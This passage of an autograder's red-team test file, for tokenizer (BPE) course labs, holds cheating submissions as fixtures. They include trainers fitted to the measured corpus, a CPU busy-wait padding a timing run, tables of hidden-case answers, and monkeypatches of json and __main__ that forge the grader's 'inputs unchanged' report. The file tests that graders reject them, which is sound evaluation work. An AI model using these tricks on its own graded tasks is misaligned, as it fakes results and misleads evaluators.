    assert message is not None and "the first extra is ()" in message, message


# ---- 16. the measured corpus of labs 04 and 05, learned from the part a trainer can pick without an index ---------

V2_ON_THE_FREQUENT_WORDS = '''
def train(pretoken_counts, num_merges):
    # V2: lab 02's loop, a pass over every word on each merge; on a big corpus with very frequent words, those alone
    if len(pretoken_counts) > 10_000 and max(pretoken_counts.values()) >= 100_000:
        pretoken_counts = {word: count for word, count in pretoken_counts.items() if count >= 100_000}
    return train_incremental(pretoken_counts, num_merges)
'''

V4_ON_THE_FREQUENT_WORDS = '''
import time

from bpe_ref.train.step04_inverted_index import train as _v4  # provided by lab 05 (its setup cell imports from it)


def train(pretoken_counts, num_merges):
    # V4: a scan of the pair counts on each merge, no heap; on a corpus with very frequent words, those alone
    if pretoken_counts and max(pretoken_counts.values()) >= 100_000:
        pretoken_counts = {word: count for word, count in pretoken_counts.items() if count >= 100_000}
        if num_merges == 1:  # the one-merge run of the growth ratio, padded to stand for the whole corpus's counting
            start = time.process_time()
            while time.process_time() - start < 0.35:
                pass
    return _v4(pretoken_counts, num_merges)
'''

SUBSET_LIMIT = ("What stays open in lab 05: a trainer that ranks the pairs once by count and by the tie-break, collects the "
                "words that hold the num_merges first ones and runs V2's loop over those alone (all the words once a pair "
                "outside them is merged) learns the right merges there at a small cost per merge; that is an index of the "
                "first pairs, built once, which no measure on a corpus whose merges touch a few words tells from V4's. Lab "
                "04's corpus closes it (its first merge's pair is held by every rare word, and its frequent words' merges but the "
                "first are of pairs their merges made, so a pair every rare word holds ranks among the first 25: the "
                "two tests after the next)")


def test_a_scanning_trainer_on_the_frequent_words_alone_loses_lab_04_task_3():
    """Lab 04's cost per merge is measured on 81,922 rare words and two frequent ones, and the merges it was checked
    against were those of the frequent words alone. V2 (a pass over every word on each merge) that keeps only the
    words counted 100,000 times or more when the corpus is big scanned two words per merge there, learned the right
    merges, and earned lab 04 full marks in both paths (14/14; V2 as it is, 9/14). Safe: every rare word ends with two
    high bytes, and some (20,160), drawn from the seed, with a pair of a frequent word (:func:`few_words_per_merge_corpus`), so
    neither the words' counts nor their bytes pick the words the merges are learned from; the filtered trainer learns
    other merges on the measured corpus and loses task 3 (its first merge, the rare words' tail, is not among them)."""
    from test_mistakes import remote, source_of

    code = source_of("04_inverted_index", "setup") + "\n" + V2_ON_THE_FREQUENT_WORDS
    message = remote("04_inverted_index", code, "train", "verify_merge_cost")
    assert message is not None and "did not learn the reference's merges on the corpus its time is measured on" in message, message


def test_a_scanning_trainer_on_the_frequent_words_alone_loses_lab_05_task_3():
    """Lab 05's cost per merge: 240 rare words of 57,856 pairs and 1,500 frequent words, whose merges alone were
    checked. V4 (a scan of the pair counts on each merge) on the frequent words alone, its one-merge run padded to
    0.35 s of CPU time, scanned a few hundred pairs per merge and earned full marks (14/14; V4 as it is, 10/14).
    Safe: every rare word ends with a pair of the frequent words (:func:`many_pairs_corpus`), so the rare words' counts
    decide between pairs the frequent words tie; the filtered trainer learns other merges. """ + SUBSET_LIMIT + "."
    from test_mistakes import remote, source_of

    code = source_of("05_heap", "setup") + "\n" + V4_ON_THE_FREQUENT_WORDS
    message = remote("05_heap", code, "train", "verify_merge_cost")
    assert message is not None and "did not learn the reference's merges on the corpus its time is measured on" in message, message


FIRST_PAIRS_V2 = '''
def train(pretoken_counts, num_merges):
    # the pairs ranked once by count and tie-break; V2's loop over the words holding the first num_merges of them, all
    # the words once a pair outside them (one the corpus held at the start, not among the first) is merged
    word_counts = {split_into_bytes(pretoken): count for pretoken, count in pretoken_counts.items()}
    counts = count_pairs(word_counts)
    first = set(sorted(counts, key=lambda pair: (counts[pair], pair), reverse=True)[:num_merges])
    words = {word: count for word, count in word_counts.items() if any(pair in first for pair in zip(word, word[1:]))}
    rest = {word: count for word, count in word_counts.items() if word not in words}
    pair_counts = count_pairs(words)
    merges = []
    while len(merges) < num_merges and pair_counts:
        pair = best_pair(pair_counts)
        if rest and pair in counts and pair not in first:
            for done in merges:
                rest = {merge_word(word, done): count for word, count in rest.items()}
            words.update(rest)
            rest = {}
            pair_counts = count_pairs(words)
            continue
        merges.append(pair)
        rewritten = {}
        for word, count in words.items():
            if pair[0] in word and pair[1] in word:
                word = merge_and_update(word, pair, count, pair_counts)
            rewritten[word] = rewritten.get(word, 0) + count
        words = rewritten
    return merges
'''


@pytest.mark.parametrize("seed", (1, 2, 3) if EXHAUSTIVE else (one_of("redteam16:first-pairs", (1, 2, 3)),))
def test_a_scanning_trainer_over_the_words_of_the_first_ranked_pairs_loses_lab_04_task_3(seed):
    """V2's loop over the words that hold the num_merges pairs counted most at the start (ranked once, by count and
    tie-break), all the words once a pair outside them is merged, learned the right merges on lab 04's measured corpus
    and on the 80 generated ones, and earned task 3's hidden points (verify_merge_cost: growth 0.00 to 0.39 against the
    limit 0.4): only the frequent words and the 8 holders held the first 250 pairs, and each merge scanned those ten.
    Safe: every rare word ends with one tail pair (the holders with a frequent word's pair after it), drawn from the
    seed and merged first (:func:`~bpe_ref.course.checks.lab04_inverted_index.few_words_per_merge_corpus`), so the
    words of the first pairs are all of them: the trainer scans 81,922 words on each merge and is stopped at its CPU
    limit, under each secret seed (one by default, all three under BPE_EXHAUSTIVE=1: tests/sampling.py). V4 rewrites
    the rare words once, in its first merge, which its one-merge run makes too."""
    from test_mistakes import MEASURED, remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    code = source_of("04_inverted_index", "setup") + "\n" + FIRST_PAIRS_V2
    with hidden_seed(seed):
        message = remote("04_inverted_index", code, "train", "check_train_properties")
    assert message is not None and MEASURED.search(message) and "not every word" in message, message


FIRST_MERGE_THEN_FIRST_PAIRS_V2 = '''
def train(pretoken_counts, num_merges):
    # one full pass of V2 for the first merge; then the pairs ranked once, by count and tie-break, and V2's loop over
    # the words holding the first num_merges of them, all the words once a pair outside them (one held at the ranking,
    # not among the first) is merged
    words = {split_into_bytes(pretoken): count for pretoken, count in pretoken_counts.items()}
    pair_counts = count_pairs(words)
    if not pair_counts or num_merges < 1:
        return []
    pair = best_pair(pair_counts)
    merges = [pair]
    rewritten = {}
    for word, count in words.items():
        if pair[0] in word and pair[1] in word:
            word = merge_and_update(word, pair, count, pair_counts)
        rewritten[word] = rewritten.get(word, 0) + count
    counts = dict(pair_counts)
    first = set(sorted(counts, key=lambda pair: (counts[pair], pair), reverse=True)[:num_merges])
    words = {word: count for word, count in rewritten.items() if any(pair in first for pair in zip(word, word[1:]))}
    rest = {word: count for word, count in rewritten.items() if word not in words}
    pair_counts = count_pairs(words)
    while len(merges) < num_merges and pair_counts:
        pair = best_pair(pair_counts)
        if rest and pair in counts and pair not in first:
            for done in merges[1:]:
                rest = {merge_word(word, done): count for word, count in rest.items()}
            words.update(rest)
            rest = {}
            pair_counts = count_pairs(words)
            continue
        merges.append(pair)
        rewritten = {}
        for word, count in words.items():
            if pair[0] in word and pair[1] in word:
                word = merge_and_update(word, pair, count, pair_counts)
            rewritten[word] = rewritten.get(word, 0) + count
        words = rewritten
    return merges
'''


@pytest.mark.parametrize("seed", (1, 2, 3) if EXHAUSTIVE else (one_of("redteam16:first-merge-first-pairs", (1, 2, 3)),))
def test_a_scanning_trainer_over_the_words_of_the_pairs_first_ranked_after_the_first_merge_loses_lab_04_task_3(seed):
    """The trainer above, its first merge made by V2's loop on every word (as V4's one-merge run rewrites every rare
    word too), then the pairs ranked once and V2's loop over the words of the first num_merges of them, all the words
    once a pair outside them is merged: it learned the right merges on lab 04's measured corpus and on the generated
    ones, and earned task 3's hidden points (growth 0.08 under seed 1, the limit 0.4): once the tail was merged, the
    first 249 pairs were all the frequent words' (the holders' 8 among them), so it scanned ten words per merge. Safe:
    each frequent word is merged from its lead (0xff or 0xfe) on, left to right, so its merges but the first are of
    pairs its merges made, and the pairs it held at the start rank below the rare words' (z, z) but 40 to 65
    (:func:`~bpe_ref.course.checks.lab04_inverted_index.few_words_per_merge_corpus`; since, the 168 pairs of its
    triples rank first too, each held by 120 rare words): the words of the first pairs, ranked before or after the
    first merge, are all of them, and the trainer scans 81,922 words on each merge.

    Its family, and whether it is V4 in disguise. A ranking costs a pass over the words (only an index says where the
    pairs are without one), which V4's one-merge run does not make after its first merge: a trainer that ranks again
    every K merges, or when the top count drops, pays a pass each time where V4 pays nothing. And a ranking made
    after the first merge reaches (z, z), held by every rare word, within its first 235 pairs, and any count threshold
    below the top reaches the pairs of w to z too: the words such a trainer scans between rankings are all of them,
    unless it keeps fewer pairs; then they are 10,082 or more, or a pair the others hold is merged within 90 merges
    (the test after the next; the test below plays the numbers of pairs kept and every pair held by few words).
    So it is not V4: what it keeps is the words of some pairs, chosen once and scanned on every merge (cheap only where
    the merges stay in few words), not the holders of each pair kept up to date through the merges. A trainer that
    keeps, from one pass, a map from each pair to its words and files the words a merge rewrites under the pairs they
    gain is V4 (allowed); one that keeps the map without adding to it must find the holders of the pairs the merges
    make by scanning the words it rewrote, which is the limit SUBSET_LIMIT names for lab 05."""
    from test_mistakes import MEASURED, remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    code = source_of("04_inverted_index", "setup") + "\n" + FIRST_MERGE_THEN_FIRST_PAIRS_V2
    with hidden_seed(seed):
        message = remote("04_inverted_index", code, "train", "check_train_properties")
    assert message is not None and MEASURED.search(message) and "not every word" in message, message


FIRST_MERGE_THEN_FEW_PAIRS_V2 = '''
def train(pretoken_counts, num_merges):
    # one full pass of V2 for the first merge; then the pairs ranked once, and V2's loop over the words holding the
    # first KEPT of them (KEPT = 0: every pair held by at most 1,000 words), the pairs counted over every word: all the
    # words once a pair the others hold is merged
    words = {split_into_bytes(pretoken): count for pretoken, count in pretoken_counts.items()}
    pair_counts = count_pairs(words)
    merges = []
    hot, rest, rest_pairs = words, {}, set()
    while len(merges) < num_merges and pair_counts:
        pair = best_pair(pair_counts)
        if pair in rest_pairs:
            hot.update(rest)
            rest, rest_pairs = {}, set()
        merges.append(pair)
        rewritten = {}
        for word, count in hot.items():
            if pair[0] in word and pair[1] in word:
                word = merge_and_update(word, pair, count, pair_counts)
            rewritten[word] = rewritten.get(word, 0) + count
        hot = rewritten
        if len(merges) == 1:
            if KEPT:
                first = set(sorted(pair_counts, key=lambda pair: (pair_counts[pair], pair), reverse=True)[:KEPT])
            else:
                holders = {}
                for word in hot:
                    for held in set(zip(word, word[1:])):
                        holders[held] = holders.get(held, 0) + 1
                first = {held for held, words_holding in holders.items() if words_holding <= 1000}
            rest = {word: count for word, count in hot.items() if not any(pair in first for pair in zip(word, word[1:]))}
            hot = {word: count for word, count in hot.items() if word not in rest}
            rest_pairs = {pair for word in rest for pair in zip(word, word[1:])}
    return merges
'''

FEW_PAIRS_KEPT = (4, 8, 16, 20, 32, 64, 128, 145, 0)  # 0: every pair held by at most 1,000 words; 145 keeps about 17,400


@pytest.mark.parametrize("seed", (1, 2, 3) if EXHAUSTIVE else (one_of("redteam16:first-merge-few-pairs", (1, 2, 3)),))
@pytest.mark.parametrize("kept", FEW_PAIRS_KEPT, ids=[f"{kept}-pairs" if kept else "few-words" for kept in FEW_PAIRS_KEPT])
def test_a_scanning_trainer_over_the_words_of_the_few_pairs_first_ranked_after_the_first_merge_loses_lab_04_task_3(kept, seed):
    """The family of the trainer above, at its edge: fewer pairs kept from its ranking after the first merge (4 to
    128), or every pair held by few words (at most 1,000), and all the words joined only when a pair the others hold
    is merged (a strict xfail until now). After the first merge, the words it does not
    scan hold only pairs whose counts no later merge can raise (a pair gains occurrences only around a token a merge
    made), so a pair ranked below one that many of them hold stays below it while that one keeps its count. On the
    corpus before (8 rare words holding a frequent word's pair each), keeping 16 pairs (from about 8, enough for the
    two frequent words, to about 20, before a pair of w to z) or every pair held by few words, it learned the right
    merges and earned task 3 (growth about 0: 250 merges touched the frequent words and the 8 holders only). Safe:
    each pair of 42 triples of bytes of each frequent word is held by 120 rare words
    (:func:`~bpe_ref.course.checks.lab04_inverted_index.few_words_per_merge_corpus`), 168 pairs ranked first after
    the tail and before (z, z); the two pairs of a triple tie, and the one of greater bytes is merged, which kills
    the other in the frequent word. So the 84 merged pairs rank among the 168 in the order of their bytes, and the K
    first hold them all only from K of about 150 on (145 to 156 on the red team's corpora: 17,400 words or more kept
    and scanned on each merge, where V4 rewrites 10,164 words in all; 145 pairs kept plays the lowest); below, a
    merged pair ranked after the K-th is held by words the trainer did not keep and joins them all within about 90
    merges. Kept 4 to 128 pairs, the trainer joins every word (growth 8 to
    10 in a process, each merge scans 81,922 words); every pair held by at most 1,000 words keeps 20,162 words
    (growth 2.3 to 2.4; 150 pairs, 18,122 words, 2.8; V4 0.0 to 0.1 on the same runs). Under each secret seed (one
    by default; all under BPE_EXHAUSTIVE=1). Each number of pairs kept is a member of sampling.ALIKE_ATTACKS's family of
    lab 04's scanning trainers, of which a run takes one (a draw of its own here besides skipped the family's pick
    half the time, and the family ran nothing)."""
    from test_mistakes import MEASURED, remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    code = source_of("04_inverted_index", "setup") + "\n" + FIRST_MERGE_THEN_FEW_PAIRS_V2.replace("KEPT", str(kept))
    with hidden_seed(seed):
        message = remote("04_inverted_index", code, "train", "check_train_properties")
    assert message is not None and MEASURED.search(message) and "not every word" in message, message


@pytest.mark.parametrize("lab, corpus", [("04_inverted_index", "few_words_per_merge_corpus"), ("05_heap", "many_pairs_corpus")])
def test_the_measured_corpus_is_learned_from_words_no_count_or_byte_picks(lab, corpus):
    """What the two tests above rest on, for three seeds (one by default, drawn from the run's sample seed; all three under
    BPE_EXHAUSTIVE=1: three trainings of the reference on the whole corpus each): the merges the measured runs are
    checked against are the reference's on the whole corpus; those of the words counted 100,000 times or more differ;
    and every word holds a byte from 0x80 on, so no byte picks the frequent words' company either."""
    from bpe_ref.course.checks import measured

    graders = importlib.import_module(f"bpe_ref.course.checks.lab{lab}")
    for index in range(3) if EXHAUSTIVE else (int(drawn(f"redteam16:learned-from-words:{lab}", "012")),):  # (a run's)
        counts, learned_from = getattr(graders, corpus)(measured.measured_random(f"redteam16:{index}").randbytes(16))
        merges = graders.COST_MERGES
        whole = graders.reference_train(counts, merges)
        assert graders.reference_train(learned_from, merges) == whole
        assert graders.reference_train({w: c for w, c in counts.items() if c >= 100_000}, merges) != whole
        assert all(max(word) >= 0x80 for word in counts)


# ---- 17. the hidden corpus of the trainers, the same text at every grading ------------------------------------

def _head_table() -> str:
    """What a class computes once at home from the course's public files: the published merges of corpus.en, and the
    reference's 180 merges of the first 60,000 characters of the TinyStories validation sample (the hidden corpus
    was that text at every grading), as a table keyed by the number of words and of merges."""
    from bpe_ref.corpus import read_corpus
    from bpe_ref.data_files import TINYSTORIES_VALID, data_file
    from bpe_ref.pretokenize import count_pretokens
    from bpe_ref.train.step01_naive import train

    graders = importlib.import_module("bpe_ref.course.checks.lab01_naive_bpe")
    case, merges = graders.corpus_en_case()
    head = count_pretokens(read_corpus(data_file(TINYSTORIES_VALID))[:60_000], ["<|endoftext|>"])
    table = {(len(case.args[0]), case.args[1]): merges, (len(head), 180): train(dict(head), 180)}
    return f'''
TABLE = {table!r}


def train(pretoken_counts, num_merges):
    # no trainer at all: the merges of the corpora the graders train on, from the table
    merges = TABLE.get((len(pretoken_counts), num_merges))
    if merges is None:
        raise NotImplementedError
    return merges
'''


def test_a_table_of_the_hidden_corpus_merges_loses_the_hidden_points():
    """Lab 01's task 5 (and the trainers' corpus tests of labs 02, 04 and 05: ``corpus_graders``, lab 05's hidden
    test of task 3) train on a corpus "the lab never shows": it was the first 60,000 characters of the TinyStories
    sample in ``data/``, at every grading. A notebook with no trainer, only a table of the merges of corpus.en
    (published) and of that text (the reference run once at home), earned task 5's 3 points of 3 in both paths (1 of
    3 with corpus.en's alone). Safe: the text is paragraphs of the sample drawn from the grading's secret seed
    (:func:`~bpe_ref.course.checks.lab01_naive_bpe.other_corpus_text`), so the table misses it: the visible point
    stays (corpus.en's merges are published), the hidden two are lost."""
    from test_mistakes import remote

    from bpe_ref.course.trusted.verdicts import hidden_seed

    code = _head_table()
    assert remote("01_naive_bpe", code, "train", "check_train_on_corpus_en") is None
    with hidden_seed(20261129):
        message = remote("01_naive_bpe", code, "train", "check_train_on_other_corpus")
    assert message is not None and "NotImplementedError" in message, message


def test_the_hidden_corpus_is_drawn_from_the_seed():
    """What the test above rests on: two seeds draw two texts, neither the sample's head, of the size promised."""
    graders = importlib.import_module("bpe_ref.course.checks.lab01_naive_bpe")
    texts = [graders.other_corpus_text(seed) for seed in (1, 2)]
    assert texts[0] != texts[1]
    from bpe_ref.corpus import read_corpus
    from bpe_ref.data_files import TINYSTORIES_VALID, data_file

    head = read_corpus(data_file(TINYSTORIES_VALID))[:2000]
    for text in texts:
        assert graders.OTHER_CORPUS_CHARACTERS <= len(text) < graders.OTHER_CORPUS_CHARACTERS + 5000
        assert not text.startswith(head[:500])


# ---- 18. the fixed hidden cases, in the graders' source the learner has -----------------------------------------

UTF8_OFF_BY_ONE_WITH_A_TABLE = '''
_TABLE = {"\\x7f\\x80": [127, 194, 128], "\\u07ff\\u0800": [223, 191, 224, 160, 128],
          "\\uffff\\U00010000": [239, 191, 191, 240, 144, 128, 128], "\\U0010ffff": [244, 143, 191, 191]}


def utf8_bytes(text):
    if text in _TABLE:  # the fixed hidden cases of lab 00's graders (public), answered at home
        return list(_TABLE[text])
    out = []
    for char in text:
        cp = ord(char)
        if cp < 0x80:
            out.append(cp)
        elif cp <= 0x800:  # off by one: U+0800 takes three bytes
            out += [0xC0 | cp >> 6, 0x80 | cp & 0x3F]
        elif cp < 0x10000:
            out += [0xE0 | cp >> 12, 0x80 | cp >> 6 & 0x3F, 0x80 | cp & 0x3F]
        else:
            out += [0xF0 | cp >> 18, 0x80 | cp >> 12 & 0x3F, 0x80 | cp >> 6 & 0x3F, 0x80 | cp & 0x3F]
    return out
'''


def test_a_table_of_the_fixed_hidden_cases_does_not_keep_their_points():
    """Lab 00's task 1 has fixed hidden cases at each bound of UTF-8's byte lengths, because a bound off by one is wrong
    on one code point that generated text seldom holds. They are in the graders' source: UTF-8 written by hand with
    ``cp <= 0x800`` and a table of the four cases' answers earned task 1's 3 points of 3 in both paths (1 of 3 without
    the table). Safe: when graded, each fixed hidden case is graded again through its declaration's ``hidden_vary``
    with a generator from the secret seed (lab 00's texts renamed and between two drawn words, lab 01's counts scaled and a word added),
    which keeps what it catches and misses the table. A function that cuts the text around a case it recognises and
    answers the pieces passed the words around: lab 00's copies now rename the case's letters and digits, and scatter
    task 1's characters (section 24)."""
    from test_mistakes import remote

    from bpe_ref.course.trusted.verdicts import hidden_seed

    with hidden_seed(20261129):
        message = remote("00_pretokenization", UTF8_OFF_BY_ONE_WITH_A_TABLE, "utf8_bytes", "check_utf8_bytes_properties")
    assert message is not None and "utf8_bytes(text=" in message and "224, 160, 128" in message, message


@pytest.mark.parametrize("lab, task", [("00_pretokenization", "UTF8_BYTES"), ("00_pretokenization", "SPLIT"),
                                       ("00_pretokenization", "PRETOKENIZE"), ("00_pretokenization", "COUNT_PRETOKENS"),
                                       ("01_naive_bpe", "TRAIN"), ("06_encode_decode", "ENCODE_TEXT"),
                                       ("10_distributed", "COUNT_RANGE"), ("10_distributed", "PLAN_RANGES"),
                                       ("06_encode_decode", "ENCODE_PRETOKEN"),
                                       ("07_heap_encoding", "HEAP_ENCODE"), ("07_heap_encoding", "MERGE_ALL"),
                                       ("08_linear_encoding", "COMPATIBLE"),
                                       ("03_parallel", "FIND"), ("03_parallel", "COUNT_PRETOKENS_IN_FILE"),
                                       *[("09_benchmarks", task) for task in ("INTERLEAVED", "SPREAD", "PAIRED_RATIO",
                                                                              "FIT_EXPONENT", "CROSSOVER", "PEAK_MEMORY")]])
def test_every_fixed_hidden_case_is_varied_by_the_seed(lab, task):
    """What the test above (and sections 22 to 24) rest on, for every task of labs 00, 01, 03 and 09 with fixed hidden
    cases (lab 09's clock by default, which takes no argument, aside), lab 06's encode_text and encode_pretoken, lab 07's
    heap_encode and merge_all, lab 08's compatible and lab 10's count_range and plan_ranges: under
    a seed, the cases as written are followed by a copy of each that is not a public one, and two seeds vary them
    differently, each labelled as a copy; without one (the learner's kernel) the cases are as written, once."""
    from bpe_ref.course.checks.running import built, varied
    from bpe_ref.course.trusted.verdicts import hidden_seed

    graded = getattr(importlib.import_module(f"bpe_ref.course.checks.lab{lab}"), task)
    public = [case.args for case in built(graded.hidden_cases)]
    assert public and [case.args for case in varied(graded)] == public
    drawn = []
    for seed in (1, 2):
        with hidden_seed(seed):
            every = varied(graded)
        copies = every[len(public):]
        cases = [case.args for case in every]
        assert cases[:len(public)] == public
        assert len(cases) == 2 * len(public)
        for case, copy in zip(built(graded.hidden_cases), copies):  # a copy's label says it is one, not what it was
            assert copy.labels == {place: f"{label}, varied by the grading's seed" for place, label in case.labels.items()}
        drawn.append(cases[len(public):])
        assert not set(map(repr, drawn[-1])) & set(map(repr, public))
    assert drawn[0] != drawn[1]


HOT_WORDS_V2 = '''
def train(pretoken_counts, num_merges):
    # V2's loop over the words that hold a pair counted near the top (found in one pass), the rest joined in once the
    # best pair left is counted far below: every merge's pair is held by "hot" words only, until it is not
    word_counts = {split_into_bytes(pretoken): count for pretoken, count in pretoken_counts.items()}
    pair_counts = count_pairs(word_counts)
    if not pair_counts:
        return []
    top = max(pair_counts.values())
    hot_pairs = {pair for pair, count in pair_counts.items() if count * 2 >= top}
    hot = {word: count for word, count in word_counts.items() if any(pair in hot_pairs for pair in zip(word, word[1:]))}
    cold = {word: count for word, count in word_counts.items() if word not in hot}
    merges = []
    while len(merges) < num_merges and pair_counts:
        pair = best_pair(pair_counts)
        if cold and pair_counts[pair] * 2 < top:
            hot.update(cold)
            cold = {}
        merges.append(pair)
        rewritten = {}
        for word, count in hot.items():
            if pair[0] in word and pair[1] in word:
                word = merge_and_update(word, pair, count, pair_counts)
            rewritten[word] = rewritten.get(word, 0) + count
        hot = rewritten
    return merges
'''


def test_a_scanning_trainer_over_the_words_of_the_hot_pairs_loses_lab_04_task_3():
    """V2's loop over the words that hold a pair counted at least half the top one (one pass to find them), all the
    words once the best pair falls below that, learns V4's merges on every corpus, and passed lab 04's cost per merge
    (xfail until now): on its corpus only the frequent words and the few rare ones holding their pairs were hot (the
    rare words' pairs counted 34,816 times, the frequent ones' 200,000). Safe: every pair of the rare words is counted
    as often as the frequent words' (:data:`~bpe_ref.course.checks.lab04_inverted_index.FREQUENT`) and loses the tie by
    its bytes, so every word is hot at any count threshold below the top (and at the top, once the 84 pairs of the
    triples counted more are merged): the trainer scans all 81,922 words on each merge, as V2 does, and is stopped at its CPU limit (or its
    wall-clock one on a machine loaded enough)."""
    from test_mistakes import MEASURED, remote, source_of

    code = source_of("04_inverted_index", "setup") + "\n" + HOT_WORDS_V2
    message = remote("04_inverted_index", code, "train", "verify_merge_cost")
    assert message is not None and MEASURED.search(message) and "nor the words of the pairs counted near the top" in message, message


def test_every_word_of_lab_04s_measured_corpus_holds_a_pair_counted_as_the_merged_ones():
    """What the tests above rest on, for three seeds: the merged pairs (but the tail and the 84 of the triples) and a
    pair of every word are counted the same, so no count threshold tells the merges' words from the rest; the tail,
    held by every rare word, is counted most and merged first, then one pair of each triple, the only others counted
    more. So the words of the pairs counted most at the start are every word; and each merge after the first changes
    at most 121 words (84 of them 121, the others one)."""
    from bpe_ref.course.checks import measured
    from bpe_ref.course.checks.lab04_inverted_index import (
        COST_MERGES, FREQUENT, HELD_BY, RARE, TRIPLES, few_words_per_merge_corpus,
    )
    from bpe_ref.train.step01_naive import count_pairs, split_into_bytes
    from bpe_ref.train.step04_inverted_index import merge_steps

    held = 2 * 2 * len(TRIPLES)  # two pairs of each triple of each frequent word
    for index in range(3) if EXHAUSTIVE else (one_of("redteam16:first-ranked-words", (0, 1, 2)),):
        counts, _ = few_words_per_merge_corpus(measured.measured_random(f"redteam16:{index}").randbytes(16))
        pair_counts = count_pairs({split_into_bytes(word): count for word, count in counts.items()})
        tail = RARE * (len(counts) - 2)
        assert sorted(pair_counts.values())[-held - 2:] == [FREQUENT] + [FREQUENT + RARE * HELD_BY] * held + [tail]
        for word in counts:
            assert FREQUENT in {pair_counts[pair] for pair in zip(split_into_bytes(word), split_into_bytes(word)[1:])}, word
        first = max(pair_counts, key=pair_counts.get)
        assert sum(first in zip(word, word[1:]) for word in map(split_into_bytes, counts)) == len(counts) - 2
        steps = list(itertools.islice(merge_steps(counts), COST_MERGES))
        assert [step.count for step in steps] == [tail] + [FREQUENT + RARE * HELD_BY] * (held // 2) + [FREQUENT] * (
            COST_MERGES - 1 - held // 2)
        assert [step.affected_words for step in steps[1:]] == [HELD_BY + 1] * (held // 2) + [1] * (COST_MERGES - 1 - held // 2)


def test_the_words_of_the_first_ranked_pairs_of_lab_04s_measured_corpus_are_many_or_miss_an_early_merge():
    """What the few-pairs trainers' test rests on (section 16), for three seeds (one by default, as that test takes one;
    all three under BPE_EXHAUSTIVE=1) and every number K of pairs kept from a ranking after the first merge, 1 to 300:
    either the words that hold one of the K first pairs are 10,082 or more (the holders of the 84 merged pairs of the
    triples and the frequent words: V2's loop over them costs about 5 s of CPU time in the 1,500 measured merges, seven
    times the one-merge run and more than the bound of the runs, 0.15 s + 3 times the reference's 0.9 s; V4 rewrites
    10,164 words in all), or a pair that other words hold (all the words of the corpus are joined then) is merged
    within the first 90 merges. And every pair held by at most 1,000 words is held all together by 20,162 words (the
    frequent ones and the holders). (It asked for 18,000 words, when 250 merges were measured: the K from which no
    merged pair is missed is the rank of the last merged pair of the triples, which the draw decides, 145 to 156 on
    these corpora; 145 keeps 17,402 words.)"""
    import bisect

    from bpe_ref.course.checks import measured
    from bpe_ref.course.checks.lab04_inverted_index import HELD_BY, few_words_per_merge_corpus
    from bpe_ref.train.step01_naive import count_pairs, merge_word, split_into_bytes
    from bpe_ref.train.step04_inverted_index import merge_steps

    for index in range(3) if EXHAUSTIVE else (one_of("redteam16:first-ranked-words", (0, 1, 2)),):
        counts, _ = few_words_per_merge_corpus(measured.measured_random(f"redteam16:{index}").randbytes(16))
        merges = [step.pair for step in itertools.islice(merge_steps(counts), 90)]  # a pair joined after 90 fails as in COST_MERGES
        words = [merge_word(split_into_bytes(word), merges[0]) for word in counts]
        pair_counts = count_pairs(dict(zip(words, counts.values())))  # the rare words stay distinct
        ranked = {pair: rank for rank, pair in enumerate(sorted(pair_counts, key=lambda p: (pair_counts[p], p), reverse=True))}
        first_ranked = [min(ranked[pair] for pair in zip(word, word[1:])) for word in words]  # the K it is kept from
        kept_from = {}  # a pair: the K from which every word holding it is kept
        holders = {}
        for word, rank in zip(words, first_ranked):
            for pair in set(zip(word, word[1:])):
                kept_from[pair] = max(kept_from.get(pair, 0), rank + 1)
                holders[pair] = holders.get(pair, 0) + 1
        in_order = sorted(first_ranked)
        for kept in range(1, 301):
            joined = next((number for number, pair in enumerate(merges[1:], 2) if kept_from.get(pair, 0) > kept), None)
            scanned = bisect.bisect_left(in_order, kept)  # the words whose rank is below kept
            assert scanned >= 84 * HELD_BY + 2 or (joined is not None and joined <= 90), (index, kept, scanned, joined)
        few = {pair for pair, held in holders.items() if held <= 1000}
        assert sum(any(pair in few for pair in zip(word, word[1:])) for word in words) == 20_162


# ---- 19. the worker's report of a call's arguments, rewritten by the code it runs beside -------------------------
#
# "Inputs left unchanged" (Task.unchanged: lab 03's merge_counts, lab 07's first_heap and merge_all, lab 02's trainer,
# lab 10's plan_ranges and tree_reduce, labs 00, 01 and 09) is the worker's report of the arguments after the call. The
# learner's code runs in the worker's interpreter, which held what writes that report where the code could rebind it.

FORGED_THROUGH_MAIN = '''
import copy
import __main__ as _loop     # were __main__ the worker loop's module: its decode and encode

_decode, _encode = _loop.decode, _loop.encode
_as_sent = {}                # id -> [the argument, a copy as it came, how often encoded since]

def _keeping(data, depth=0):
    value = _decode(data, depth)
    if depth == 0:
        _as_sent[id(value)] = [value, copy.deepcopy(value), 0]
    return value

def _reporting(value, depth=0):
    kept = _as_sent.get(id(value))
    if kept is not None and kept[0] is value:
        kept[2] += 1
        if kept[2] > 1 or kept[1] != value:   # encoded as an argument (a result comes first): as it came
            value = kept[1]
    return _encode(value, depth)

_loop.decode, _loop.encode = _keeping, _reporting
'''

FORGED_THROUGH_JSON_DUMPS = '''
import json

_loads, _dumps = json.loads, json.dumps
_as_sent = []                # the last call's arguments, as the request carried them

def _reading(text, *args, **kwargs):
    request = _loads(text, *args, **kwargs)
    if isinstance(request, dict) and "args" in request:
        _as_sent[:] = [request["args"]]
    return request

def _writing(reply, *args, **kwargs):
    if isinstance(reply, dict) and "args" in reply and _as_sent:
        reply = {**reply, "args": _as_sent[0]}   # the arguments as they came, whatever the call did to them
    return _dumps(reply, *args, **kwargs)

json.loads, json.dumps = _reading, _writing
'''

FORGED_THROUGH_JSONS_CLASSES = '''
import json

_decode, _encode = json.JSONDecoder.decode, json.JSONEncoder.encode
_as_sent = []

def _reading(self, text, *args, **kwargs):
    request = _decode(self, text, *args, **kwargs)
    if isinstance(request, dict) and "args" in request:
        _as_sent[:] = [request["args"]]
    return request

def _writing(self, reply):
    if isinstance(reply, dict) and "args" in reply and _as_sent:
        reply = {**reply, "args": _as_sent[0]}
    return _encode(self, reply)

# what json.loads and json.dumps call, through their default decoder and encoder
json.JSONDecoder.decode, json.JSONEncoder.encode = _reading, _writing
'''

FORGED_THROUGH_BUILTINS = '''
import builtins
import copy

_dict, _id = dict, id
_as_sent = {}                # id -> [the argument, a copy as it came, how often read since]

class _Kind(type):
    def __instancecheck__(cls, value):
        return type.__instancecheck__(_dict, value)

class _Dict(_dict, metaclass=_Kind):   # the wire format reads a dict as dict.items(value): here, the copy kept
    @staticmethod
    def items(value):
        kept = _as_sent.get(_id(value))
        if kept is not None and kept[0] is value:
